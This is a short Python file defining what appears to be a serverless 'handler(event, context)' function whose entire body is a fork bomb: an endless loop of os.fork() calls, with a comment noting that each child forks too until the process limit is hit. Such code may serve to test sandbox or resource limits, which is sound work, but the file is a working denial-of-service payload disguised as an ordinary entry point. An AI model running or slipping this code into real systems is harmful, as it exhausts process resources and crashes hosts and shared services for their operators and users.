import os
import time


def handler(event, context):
    while True:  # until the pids limit; every child forks as well, then sleeps
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
